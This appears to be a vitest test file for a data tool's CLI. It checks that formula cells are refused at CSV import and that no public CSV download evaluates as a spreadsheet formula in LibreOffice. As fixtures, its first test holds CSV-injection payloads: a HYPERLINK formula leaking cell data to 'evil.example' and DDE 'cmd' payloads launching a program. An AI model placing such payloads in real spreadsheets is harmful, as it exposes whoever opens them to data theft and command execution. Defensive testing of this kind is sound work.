/**
 * No public CSV download runs as a spreadsheet formula. Cells that would (=, +, -, @ at the start,
 * after a tab or CR) are refused at import, naming row and column; then every CSV the public gets
 * (the data package export, `observations --format csv`, the static site's downloads) is opened by
 * LibreOffice with formula evaluation switched on, and no cell of any of them is a formula.
 */
import { execFileSync } from "node:child_process";
import { mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { formatCsv, observations } from "../src/core/index.ts";
import { cliEnv, E2E_TIMEOUT, liuzhi, makeTempDir, removeDir } from "./helpers.ts";
import { observationRow } from "./support/rows.ts";
import { SETUP_COMMAND } from "./support/setup.ts";

const SLOW = 10 * E2E_TIMEOUT;
let dir: string;
let db: string;
const run = (args: string[]) => liuzhi([...args, "--db", db], { cwd: dir, env: cliEnv({ LIUZHI_ACTOR: "test" }) });

beforeAll(() => {
  dir = makeTempDir();
  db = join(dir, "formulas.sqlite");
});
afterAll(() => removeDir(dir));

function csvFilesUnder(folder: string): string[] {
  return readdirSync(folder).flatMap((name) => {
    const path = join(folder, name);
    if (statSync(path).isDirectory()) return csvFilesUnder(path);
    return name.endsWith(".csv") ? [path] : [];
  });
}

/**
 * Opens each CSV in LibreOffice Calc as a user would, with "evaluate formulas" on (the CSV filter's
 * 13th option), saves it as flat ODS, and returns the formulas found per file.
 */
function formulasIn(files: ReadonlyArray<string>): Map<string, string[]> {
  const out = join(dir, `ods-${Math.random().toString(36).slice(2)}`);
  mkdirSync(out);
  const found = new Map<string, string[]>();
  // Copies with unique names: the downloads hold several files called observations.csv.
  const copies = files.map((file, i) => {
    const copy = join(out, `f${i}.csv`);
    writeFileSync(copy, readFileSync(file));
    return copy;
  });
  try {
    execFileSync(
      "soffice",
      [
        `-env:UserInstallation=file://${join(dir, "lo-profile")}`,
        "--headless",
        "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true",
        "--convert-to",
        "fods",
        "--outdir",
        out,
        ...copies,
      ],
      { stdio: "pipe", timeout: 8 * 60_000 },
    );
  } catch (error) {
    if ((error as NodeJS.ErrnoException).code === "ENOENT") {
      throw new Error(`LibreOffice is not installed. Install the suite's system tools with:\n  ${SETUP_COMMAND}`);
    }
    throw error;
  }
  files.forEach((file, i) => {
    const fods = readFileSync(join(out, `f${i}.fods`), "utf8");
    found.set(
      file,
      [...fods.matchAll(/table:formula="([^"]*)"/g)].map((m) => m[1]!),
    );
  });
  return found;
}

describe("CSV downloads and spreadsheet formulas", () => {
  it(
    "refuses formula cells at import, naming row and column, and keeps what is clearly not a formula",
    async () => {
      const file = join(dir, "observations.csv");
      const hostile = [
        observationRow("formula-1", { note: '=HYPERLINK("http://evil.example/?"&A1,"source")' }),
        observationRow("formula-2", { quote_en: "+cmd|' /C calc'!A0" }),
        observationRow("formula-3", { period_label: "-2+3+cmd|' /C calc'!A0" }),
        observationRow("formula-4", { locator: "@SUM(1+1)*cmd|' /C calc'!A0" }),
        observationRow("formula-5", { note: "\t=1+1" }),
      ];
      writeFileSync(file, formatCsv(observations.columns, hostile));
      const refused = await run(["import", file]);
      expect(refused.status).toBe(1);
      for (const [row, column, start] of [
        [1, "note", "="],
        [2, "quote_en", "+"],
        [3, "period_label", "-"],
        [4, "locator", "@"],
        [5, "note", "="],
      ] as const) {
        expect(refused.stderr).toContain(`observations.csv, row ${row}, column ${column}: begins with '${start}'`);
      }
      const benign = [
        observationRow("not-formula-1", { note: "-12" }),
        observationRow("not-formula-2", { note: "Fell by 5% (-5) against 2023; see x@example.org" }),
      ];
      writeFileSync(file, formatCsv(observations.columns, benign));
      const accepted = await run(["import", file]);
      expect([accepted.status, accepted.stderr]).toEqual([0, ""]);
    },
    SLOW,
  );

  it(
    "LibreOffice finds no formula cell in any public CSV download",
    async () => {
      const pkg = join(dir, "package");
      expect((await run(["export", "--format", "datapackage", "--out", pkg])).status).toBe(0);
      const listed = await run(["observations", "--format", "csv"]);
      expect(listed.status).toBe(0);
      const observationsCsv = join(dir, "observations-listing.csv");
      writeFileSync(observationsCsv, listed.stdout);
      const site = join(dir, "site");
      const built = await run(["build-site", "--out", site]);
      expect(built.status).toBe(0);

      const files = [...csvFilesUnder(pkg), observationsCsv, ...csvFilesUnder(join(site, "downloads"))];
      expect(files.filter((f) => f.startsWith(pkg)).length).toBeGreaterThanOrEqual(4);
      expect(files.filter((f) => f.startsWith(site)).length).toBeGreaterThanOrEqual(4);
      // The control: the same conversion does find a formula where there is one.
      const control = join(dir, "control.csv");
      writeFileSync(control, 'a,b\n=1+1,"=HYPERLINK(""http://x"")"\n');
      const formulas = formulasIn([control, ...files]);
      expect(formulas.get(control)).toEqual(["of:=1+1", "of:=HYPERLINK(&quot;http://x&quot;)"]);
      for (const file of files) expect({ file, formulas: formulas.get(file) }).toEqual({ file, formulas: [] });
      // The rows that are not formulas made it into the downloads.
      expect(readFileSync(join(pkg, "observations.csv"), "utf8")).toContain("not-formula-1");
    },
    SLOW,
  );
});
